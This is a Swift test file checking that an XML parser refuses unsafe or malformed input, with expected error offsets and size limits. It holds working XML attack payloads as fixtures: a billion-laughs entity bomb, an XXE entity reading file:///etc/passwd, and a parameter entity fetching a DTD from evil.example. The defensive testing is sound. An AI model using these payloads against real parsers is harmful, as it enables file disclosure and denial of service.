import Testing
import XML

/// Every reason the parser refuses a document, with where it says the problem is.
@Suite struct RefusalTests {
    func reason(_ text: String, limits: XMLLimits = .standard) -> XMLError? {
        reason(Array(text.utf8), limits: limits)
    }

    func reason(_ bytes: [UInt8], limits: XMLLimits = .standard) -> XMLError? {
        do {
            _ = try XMLDocument.parse(bytes, limits: limits)
            return nil
        } catch {
            return error
        }
    }

    @Test func billionLaughs() {
        let body = """
            <?xml version="1.0"?>
            <!DOCTYPE lolz [
             <!ENTITY lol "lol">
             <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
             <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
            ]>
            <D:propfind xmlns:D="DAV:">&lol3;</D:propfind>
            """
        #expect(reason(body) == XMLError(.doctypeRefused, offset: 22, line: 2))
    }

    @Test func externalEntityXXE() {
        let body = """
            <?xml version="1.0" encoding="utf-8"?>
            <!DOCTYPE propfind [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            <D:propfind xmlns:D="DAV:"><D:prop>&xxe;</D:prop></D:propfind>
            """
        #expect(reason(body)?.reason == .doctypeRefused)
        // Without its DOCTYPE the reference alone is refused, not expanded to nothing.
        #expect(
            reason(#"<D:propfind xmlns:D="DAV:"><D:prop>&xxe;</D:prop></D:propfind>"#)
                == XMLError(.entityRefused("xxe"), offset: 35, line: 1))
        #expect(reason("<a b='&xxe;'/>") == XMLError(.entityRefused("xxe"), offset: 6, line: 1))
    }

    @Test func parameterEntities() {
        let body = """
            <!DOCTYPE r [
              <!ENTITY % remote SYSTEM "http://evil.example/x.dtd">
              %remote;
            ]>
            <r/>
            """
        #expect(reason(body) == XMLError(.doctypeRefused, offset: 0, line: 1))
        #expect(reason("<r>%remote;</r>") == nil)  // only text outside a DTD
    }

    @Test func doctypeWithInternalSubsetOrWithout() {
        #expect(reason("<!DOCTYPE r [<!ELEMENT r (#PCDATA)>]><r/>")?.reason == .doctypeRefused)
        #expect(reason(#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x.dtd"><r/>"#)?.reason == .doctypeRefused)
        #expect(reason("<r/><!DOCTYPE r>")?.reason == .doctypeRefused)
        #expect(reason("<r><!ENTITY x 'y'></r>")?.reason == .doctypeRefused)
        #expect(reason("<r><!doctype r></r>")?.reason == .doctypeRefused)
    }

    @Test func onlyPredefinedEntitiesAndValidCharacterReferences() {
        #expect(reason("<r>&nbsp;</r>") == XMLError(.entityRefused("nbsp"), offset: 3, line: 1))
        #expect(reason("<r>&#0;</r>") == XMLError(.invalidCharacter(0), offset: 3, line: 1))
        #expect(reason("<r>&#xD800;</r>")?.reason == .invalidCharacter(0xD800))
        #expect(reason("<r>&#x110000;</r>")?.reason == .invalidCharacter(0x11_0000))
        #expect(reason("<r>&#99999999999999999999;</r>")?.reason == .invalidCharacter(0x11_0000))
        #expect(reason("<r>&#x1;</r>")?.reason == .invalidCharacter(1))
        #expect(reason("<r>&#;</r>")?.reason == .malformed("malformed character reference"))
        #expect(reason("<r>&#x;</r>")?.reason == .malformed("malformed character reference"))
        #expect(reason("<r>&amp</r>")?.reason == .malformed("& not followed by a reference"))
        #expect(reason("<r>a & b</r>")?.reason == .malformed("expected a name"))
    }

    @Test func encodings() {
        #expect(
            reason(#"<?xml version="1.0" encoding="ISO-8859-1"?><r/>"#)
                == XMLError(.unsupportedEncoding("ISO-8859-1"), offset: 30, line: 1))
        #expect(reason([0xFF, 0xFE, 0x3C, 0x00]) == XMLError(.unsupportedEncoding("UTF-16"), offset: 0, line: 1))
        #expect(
            reason(Array("<r>".utf8) + [0xC3, 0x28] + Array("</r>".utf8)) == XMLError(.invalidUTF8, offset: 3, line: 1))
        // A surrogate, an overlong "<", a scalar past U+10FFFF, a truncated sequence.
        #expect(reason(Array("<r>".utf8) + [0xED, 0xA0, 0x80] + Array("</r>".utf8))?.reason == .invalidUTF8)
        #expect(reason(Array("<r>".utf8) + [0xC0, 0xBC] + Array("</r>".utf8))?.reason == .invalidUTF8)
        #expect(reason(Array("<r>".utf8) + [0xF4, 0x90, 0x80, 0x80] + Array("</r>".utf8))?.reason == .invalidUTF8)
        #expect(reason(Array("<r>".utf8) + [0xE2, 0x82])?.reason == .invalidUTF8)
        #expect(reason("<r>\u{1}</r>") == XMLError(.invalidCharacter(1), offset: 3, line: 1))
        #expect(reason("<r>\u{FFFE}</r>")?.reason == .invalidCharacter(0xFFFE))
    }

    @Test func malformedDocuments() {
        #expect(reason("") == XMLError(.unexpectedEnd, offset: 0, line: 1))
        #expect(reason("   ") == XMLError(.unexpectedEnd, offset: 3, line: 1))
        #expect(reason("hello") == XMLError(.malformed("text outside the root element"), offset: 0, line: 1))
        #expect(reason("<a/><b/>") == XMLError(.malformed("content after the root element"), offset: 4, line: 1))
        #expect(reason("<a/>text")?.reason == .malformed("content after the root element"))
        #expect(reason("<a>") == XMLError(.unexpectedEnd, offset: 3, line: 1))
        #expect(reason("<a><b></a>") == XMLError(.mismatchedTag(expected: "b", found: "a"), offset: 6, line: 1))
        #expect(reason("<D:a xmlns:D='DAV:'></a>")?.reason == .mismatchedTag(expected: "D:a", found: "a"))
        #expect(reason("<a b='1' b='2'/>")?.reason == .malformed("duplicate attribute b"))
        #expect(reason("<a b='<'/>")?.reason == .malformed("< in an attribute value"))
        #expect(reason("<a b=1/>")?.reason == .malformed("expected a quoted attribute value"))
        #expect(reason("<a b='1'c='2'/>")?.reason == .malformed("expected whitespace before an attribute"))
        #expect(reason("<a>]]></a>")?.reason == .malformed("]]> in text"))
        #expect(reason("<a><!-- a -- b --></a>")?.reason == .malformed("-- inside a comment"))
        #expect(reason("<a><!-- open</a>")?.reason == .unexpectedEnd)
        #expect(reason("<a><![CDATA[open</a>")?.reason == .unexpectedEnd)
        #expect(
            reason("<a><?xml version='1.0'?></a>")?.reason
                == .malformed("XML declaration not at the start of the document"))
        #expect(
            reason(" <?xml version='1.0'?><a/>")?.reason
                == .malformed("XML declaration not at the start of the document"))
        #expect(reason("<?xml version='2.0'?><a/>")?.reason == .malformed("unsupported XML version 2.0"))
        #expect(
            reason("<?xml encoding='utf-8'?><a/>")?.reason == .malformed("unexpected encoding in the XML declaration"))
        #expect(reason("<a></a >") == nil)
        #expect(reason("<a>< b/></a>")?.reason == .malformed("expected a name"))
        #expect(reason("<a><![x]></a>")?.reason == .malformed("unexpected <!"))
    }

    @Test func errorsNameTheLineAndOffset() {
        let body =
            "<?xml version=\"1.0\"?>\n<D:multistatus xmlns:D=\"DAV:\">\r\n  <D:response>\r  <D:href>x</D:hrf>\n</D:multistatus>"
        let error = reason(body)
        #expect(error?.reason == .mismatchedTag(expected: "D:href", found: "D:hrf"))
        #expect(error?.line == 4)
        let offset = body.utf8.count - "</D:hrf>\n</D:multistatus>".utf8.count
        #expect(error?.offset == offset)
        #expect(error?.description == "XML line 4 (byte \(offset)): end tag </D:hrf> does not close <D:href>")
    }

    @Test func limits() {
        let deep = String(repeating: "<a>", count: 65) + String(repeating: "</a>", count: 65)
        #expect(reason(deep) == XMLError(.limitExceeded("elements nested deeper than 64"), offset: 192, line: 1))
        #expect(reason(String(repeating: "<a>", count: 64) + String(repeating: "</a>", count: 64)) == nil)
        let wide = "<r>" + String(repeating: "<a/>", count: 100) + "</r>"
        #expect(reason(wide, limits: XMLLimits(maximumNodes: 100))?.reason == .limitExceeded("more than 100 nodes"))
        #expect(reason(wide, limits: XMLLimits(maximumNodes: 101)) == nil)
        #expect(
            reason(wide, limits: XMLLimits(maximumBytes: 100))
                == XMLError(.limitExceeded("document larger than 100 bytes"), offset: 100, line: 1))
        let attributes = "<r " + (0..<65).map { "a\($0)='x'" }.joined(separator: " ") + "/>"
        #expect(reason(attributes)?.reason == .limitExceeded("more than 64 attributes"))
        let text = "<r>" + (0..<10).map { "<a>\($0)</a>" }.joined() + "</r>"
        #expect(reason(text, limits: XMLLimits(maximumNodes: 20))?.reason == .limitExceeded("more than 20 nodes"))
    }
}
